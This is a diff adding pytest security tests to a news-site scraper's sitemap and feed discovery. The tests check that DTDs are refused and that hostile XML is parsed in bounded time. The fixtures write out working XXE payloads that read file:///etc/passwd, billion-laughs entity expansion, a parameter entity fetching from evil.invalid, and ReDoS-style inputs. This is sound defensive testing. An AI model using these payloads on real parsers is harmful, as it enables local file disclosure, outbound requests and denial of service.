@@ -13,15 +13,21 @@
 
 from __future__ import annotations
 
+import gzip
+import io
 import json
 import os
 import sqlite3
 import subprocess
 import sys
 import threading
+import time
+import tracemalloc
+from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
@@ -113,10 +119,14 @@ XXE_SITEMAP = (b'<?xml version="1.0"?>\n<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "f
                b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                b'<url><loc>http://fam68.example/2025/01/xxe-&xxe;/</loc></url>'
                b'<url><loc>http://fam68.example/2025/01/lol-&lol3;/</loc></url>'
-               b'<url><loc>http://fam68.example/2025/01/berita-peta/</loc></url>'
-               + b"".join(f"<url><loc>{u.replace('&', '&amp;')}</loc></url>".encode() for u in EVIL_LINKS
-                          if u.startswith(("http", "HTTP", "//")))
-               + b"</urlset>")
+               b'<url><loc>http://fam68.example/2025/01/berita-dtd/</loc></url>'
+               b"</urlset>")
+# A sitemap with a DTD is refused whole (nothing in it is requested); the hostile links come in a clean one.
+PAGE_SITEMAP = (b'<?xml version="1.0"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+                b'<url><loc>http://fam68.example/2025/01/berita-peta/</loc></url>'
+                + b"".join(f"<url><loc>{u.replace('&', '&amp;')}</loc></url>".encode() for u in EVIL_LINKS
+                           if u.startswith(("http", "HTTP", "//")))
+                + b"</urlset>")
 
 
 class HostileSite:
@@ -143,9 +153,12 @@ class HostileSite:
             "/sitemap.xml": (200, {"content-type": "application/xml"}, (
                 '<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                 f"<sitemap><loc>{BASE}/post-sitemap.xml</loc></sitemap>"
+                f"<sitemap><loc>{BASE}/page-sitemap.xml</loc></sitemap>"
                 "<sitemap><loc>http://evil.invalid/sitemap2.xml</loc></sitemap>"
                 "<sitemap><loc>file:///etc/passwd</loc></sitemap></sitemapindex>").encode()),
             "/post-sitemap.xml": (200, {"content-type": "application/xml"}, XXE_SITEMAP),
+            "/page-sitemap.xml": (200, {"content-type": "application/xml"}, PAGE_SITEMAP),
+            "/2025/01/berita-dtd/": (200, {"content-type": "text/html"}, _good_page("Dari Peta Ber-DTD")),
             "/2025/01/berita-aman/": (200, {"content-type": "text/html"}, _good_page("Bus Sekolah Gratis di Serang")),
             "/2025/01/berita-sub/": (200, {"content-type": "text/html"}, _good_page("Bus Sekolah Ditambah Lagi")),
             "/2025/01/berita-umpan/": (200, {"content-type": "text/html"}, _good_page("Rute Bus Sekolah Baru")),
@@ -196,7 +209,8 @@ def test_the_allowed_pages_were_reached(hostile_crawl: tuple[HostileSite, sqlite
     """Guard: the crawl did read the listing, the feed, the sitemaps and followed the allowed redirect."""
     site, conn = hostile_crawl
     asked = {r.url.path for r in site.requests}
-    assert {"/", "/feed/", "/robots.txt", "/sitemap.xml", "/post-sitemap.xml", "/2025/01/alih-10/"} <= asked
+    assert {"/", "/feed/", "/robots.txt", "/sitemap.xml", "/post-sitemap.xml", "/page-sitemap.xml",
+            "/2025/01/alih-10/"} <= asked
     titles = {t for (t,) in conn.execute("SELECT title FROM articles")}
     assert {"Bus Sekolah Gratis di Serang", "Bus Sekolah Ditambah Lagi", "Rute Bus Sekolah Baru",
             "Peta Rute Bus Sekolah"} <= titles
@@ -221,6 +235,13 @@ def test_no_entity_was_expanded_and_no_local_file_read(
     dump = "\n".join(str(v) for table in ("pages", "articles", "article_urls")
                      for row in conn.execute(f"SELECT * FROM {table}") for v in row)   # noqa: S608 (fixed names)
     assert "root:x:0:0" not in dump and "lollollol" not in dump
+
+
+def test_a_sitemap_with_a_dtd_is_refused_whole(hostile_crawl: tuple[HostileSite, sqlite3.Connection]) -> None:
+    """The DTD is refused by the XML parser itself: not one URL of that sitemap is requested."""
+    site, _ = hostile_crawl
+    asked = {r.url.path for r in site.requests}
+    assert not any(p.startswith(("/2025/01/xxe-", "/2025/01/lol-", "/2025/01/berita-dtd")) for p in asked), asked
 
 
 # ---- SQL from user text -------------------------------------------------------------------------------
@@ -355,3 +376,187 @@ def test_stored_text_holds_no_script_text(tmp_path: Path) -> None:
         conn.close()
     assert MARKER not in row[1] + row[2] + segs
     assert not Path(f"/tmp/{MARKER}").exists()
+
+
+# ---- hostile XML and URLs in discovery ---------------------------------------------------------------
+# Shapes from issue 14, generated here. Times are this process's CPU time, so a loaded machine does not
+# make them flaky; the bounds are far above what a linear reader needs and far below the old quadratic
+# regexes (<loc>*200k took 150 s, <rss> + 25,000 <link> 75 s, a 120 KB href 48 s).
+
+def _cpu(fn: Callable[[], object]) -> tuple[float, object]:
+    t0 = time.process_time()
+    out = fn()
+    return time.process_time() - t0, out
+
+
+@pytest.mark.parametrize("doc", [
+    b"<loc>" * 200_000,
+    b"<urlset><url>" + b"<loc>" * 200_000,
+    b"<urlset>" + b"<url><loc>" * 100_000,
+    b"<urlset>&" + b"<url><loc>" * 100_000,                  # broken at once: the scanner reads it all
+    b"<urlset><url><loc>" + b"<![CDATA[" * 100_000,
+    b"<urlset><url><loc>https://x.example/" + b"a" * 1_000_000 + b"</loc></url></urlset>",
+    b"<urlset>" + b"<x " * 300_000,
+    b"<urlset>" + b"<" * 1_000_000,
+], ids=["loc", "url-loc", "url+loc", "amp-url+loc", "cdata", "long-loc", "open-tags", "lt"])
+def test_broken_sitemaps_are_read_in_linear_time(doc: bytes) -> None:
+    from scraper.discover import parse_sitemap
+
+    spent, out = _cpu(lambda: parse_sitemap(doc))
+    assert out == ([], [])
+    assert spent < 1.0, spent
+
+
+@pytest.mark.parametrize("doc", [
+    b"<rss>" + b"<link>" * 25_000,
+    b"<rss><channel>" + b"<item><link>" * 25_000,
+    b"<rss>&<channel>" + b"<item><link>" * 25_000,
+    b"<feed>&" + b"<entry><link href='" * 25_000,
+    b"\n" * 100_000 + b"<rss><channel><item><link>https://x.example/a</link></item></channel></rss>",
+    b"<?xml version='1.0'?><rss a='" + b'encoding="a ' * 20_000 + b"'><channel></channel></rss>",
+    b"<rss version='2.0'><channel>" + b"<item><link>https://x.example/a-b-c-d</link></item>" * 50_000
+    + b"</channel></rss>",
+    b"<rss version='2.0'><channel><item><link>https://x.example/a</link>" + b"<category>x</category>" * 200_000
+    + b"</item></channel></rss>",
+    b"<feed xmlns='http://www.w3.org/2005/Atom'>" + b"<x xml:base='a/'>" * 25_000,
+    b"<feed xmlns='http://www.w3.org/2005/Atom'>" + b"<x xml:base='" + b"a/" * 500_000 + b"'>" * 64,
+    b"<rss><channel><item>" + b"<link>https://x.example/a</link>" * 25_000 + b"</item></channel></rss>",
+    b"<rss version='2.0'><channel><item><link>https://x.example/a</link><description>"
+    + b"&lt;a href=x&gt;" * 300_000 + b"</description></item></channel></rss>",
+    b"<rss version='2.0'><channel><item><link>https://x.example/a</link><description>" + b"x\n" * 1_000_000
+    + b"</description></item></channel></rss>",
+], ids=["links", "items", "amp-items", "atom-hrefs", "blank-prolog", "encoding-pi", "50k-items", "200k-elements",
+        "nested-base", "long-base", "flat-links", "escaped-html", "lines"])
+def test_hostile_feeds_are_read_in_bounded_time(doc: bytes) -> None:
+    from scraper.discover import parse_feed
+
+    spent, out = _cpu(lambda: parse_feed(doc, "https://x.example/feed/"))
+    assert isinstance(out, list) and len(out) <= 1
+    assert spent < 1.0, spent
+
+
+def test_long_hrefs_on_a_listing_are_rejected_before_any_regex() -> None:
+    from scraper.discover import is_article_url, links_from_listing
+
+    html = (f'<a href="/{"2025/11/" * 15_000}">a</a><a href="/{"11/" * 10_000}">b</a>'
+            f'<a href="/berita{"/berita" * 4_000}">c</a><a href="/2025/12/01/kabar-baik-dari-desa/">d</a>')
+    spent, out = _cpu(lambda: links_from_listing(html, "https://x.id/"))
+    assert out == (["https://x.id/2025/12/01/kabar-baik-dari-desa/"], [])
+    assert spent < 0.05, spent
+    for n in (120_000, 30_000):
+        spent, ok = _cpu(lambda n=n: is_article_url("https://x.id/" + "11/" * (n // 3)))
+        assert ok is False and spent < 0.05, spent
+
+
+@pytest.mark.parametrize("path", ["11/" * 2_700, "/berita" * 1_160, "berita" + "/a" * 4_000,
+                                  "/page" * 1_600, "-1" * 4_000, "2025/11/" * 1_000 + "1" * 100])
+def test_urls_just_under_the_cap_are_linear(path: str) -> None:
+    from scraper.discover import MAX_URL_CHARS, is_article_url
+
+    url = ("https://x.id/" + path)[:MAX_URL_CHARS]
+    spent, _ = _cpu(lambda: [is_article_url(url) for _ in range(10)])
+    assert spent < 0.05, spent
+
+
+DTD_SHAPES = {
+    "decoy-comment": b'<?xml version="1.0"?>\n<!-- <!DOCTYPE x> -->\n<!DOCTYPE %s [<!ENTITY e "'
+                     + b"x" * 10_000 + b'">]>\n',
+    "billion-laughs": b'<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY l "lol">'
+                      + b'<!ENTITY l2 "&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;"><!ENTITY l3 "&l2;&l2;&l2;&l2;&l2;&l2;">]>',
+    "xxe": b'<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+    "parameter-entity": b'<?xml version="1.0"?><!DOCTYPE %s [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;]>',
+    "unparsed": b'<?xml version="1.0"?><!DOCTYPE %s [<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "y" NDATA n>]>',
+    "empty-subset": b'<?xml version="1.0"?><!DOCTYPE %s []>',
+}
+
+
+def _sitemap_doc(prolog: bytes) -> bytes:
+    return (prolog.replace(b"%s", b"urlset", 1) + b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+            + b"<url><loc>https://x.example/2025/01/a-&e;-&l3;/</loc></url>" * 1_000
+            + b"<url><loc>https://x.example/2025/01/bersih/</loc></url></urlset>")
+
+
+def _feed_doc(prolog: bytes) -> bytes:
+    return (prolog.replace(b"%s", b"rss", 1) + b"<rss version='2.0'><channel><title>&e;</title>"
+            + b"<item><title>&l3;&e;</title><link>https://x.example/2025/01/b/</link></item>" * 1_000
+            + b"</channel></rss>")
+
+
+@pytest.fixture
+def feedparser_calls(monkeypatch: pytest.MonkeyPatch) -> list[bytes]:
+    """Every document handed to feedparser, recorded."""
+    import scraper.feeds
+
+    calls: list[bytes] = []
+    real = scraper.feeds.feedparser.parse
+
+    def spy(stream: Any, *args: Any, **kwargs: Any) -> Any:
+        data = stream.read()
+        calls.append(data)
+        return real(io.BytesIO(data), *args, **kwargs)
+
+    monkeypatch.setattr(scraper.feeds.feedparser, "parse", spy)
+    return calls
+
+
+@pytest.mark.parametrize("shape", sorted(DTD_SHAPES))
+@pytest.mark.parametrize("packed", [False, True], ids=["plain", "gzip"])
+def test_a_dtd_is_refused_by_the_parser_and_feedparser_never_sees_it(
+        shape: str, packed: bool, feedparser_calls: list[bytes]) -> None:
+    from scraper.discover import parse_feed, parse_sitemap
+
+    sitemap, feed = _sitemap_doc(DTD_SHAPES[shape]), _feed_doc(DTD_SHAPES[shape])
+    if packed:
+        sitemap, feed = gzip.compress(sitemap), gzip.compress(feed)
+    problems: list[str] = []
+    tracemalloc.start()
+    try:
+        assert parse_sitemap(sitemap, problems) == ([], [])
+        assert parse_feed(feed, "https://x.example/feed/", problems) == []
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert len(problems) == 2 and all(p.startswith("refused: ") for p in problems), problems
+    assert feedparser_calls == []
+    assert peak < 20_000_000, peak
+
+
+def test_entities_hidden_from_expat_never_reach_feedparser(feedparser_calls: list[bytes]) -> None:
+    """feedparser's own fallback collects <!ENTITY ...> lines by regex, even inside a comment, and expands them
+    in its loose parser: a document that expat cannot read and that declares an entity anywhere is refused."""
+    from scraper.discover import parse_feed
+
+    doc = (b'<?xml version="1.0"?>\n<!-- <!DOCTYPE x>\n<!ENTITY big "' + b"A" * 10_000 + b'">\n-->\n'
+           b"<rss version='2.0'><channel>"
+           + b"<item><title>&big;&big;&big;</title><link>https://x.example/2025/01/c/</link></item>" * 1_000
+           + b"</channel></rss>")
+    problems: list[str] = []
+    assert parse_feed(doc, None, problems) == []
+    assert problems == ["refused: broken XML with an ENTITY declaration"]
+    assert feedparser_calls == []
+
+
+def test_an_external_dtd_without_subset_is_read_and_never_fetched(feedparser_calls: list[bytes]) -> None:
+    """RSS 0.91 as Netscape specified it declares an external DTD: no internal subset, so the feed is read
+    (expat loads no external DTD) and feedparser gets the document from its root element on."""
+    from scraper.discover import parse_feed
+
+    doc = (b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD '
+           b'RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
+           b"<title>Caf\xe9</title><item><title>Berita</title><link>https://x.example/2025/01/d/</link></item>"
+           b"</channel></rss>")
+    assert parse_feed(doc) == [("https://x.example/2025/01/d/", None)]
+    assert len(feedparser_calls) == 1 and b"DOCTYPE" not in feedparser_calls[0]
+    assert feedparser_calls[0].startswith(b"<?xml version='1.0' encoding='utf-8'?>\n<rss")
+
+
+def test_declarations_in_a_prolog_comment_never_reach_feedparser(feedparser_calls: list[bytes]) -> None:
+    """Comments are comments to expat; feedparser's regexes would still collect a DOCTYPE and ENTITY lines
+    from them. It gets the document from the root element on, so nothing of that prolog."""
+    from scraper.discover import parse_feed
+
+    doc = (b'<?xml version="1.0"?>\n<!--\n<!DOCTYPE rss>\n<!ENTITY big "' + b"A" * 10_000 + b'">\n-->\n'
+           b"<rss version='2.0'><channel><item><link>https://x.example/2025/01/e/</link></item></channel></rss>")
+    assert parse_feed(doc) == [("https://x.example/2025/01/e/", None)]
+    assert len(feedparser_calls) == 1
+    assert b"ENTITY" not in feedparser_calls[0] and b"DOCTYPE" not in feedparser_calls[0]
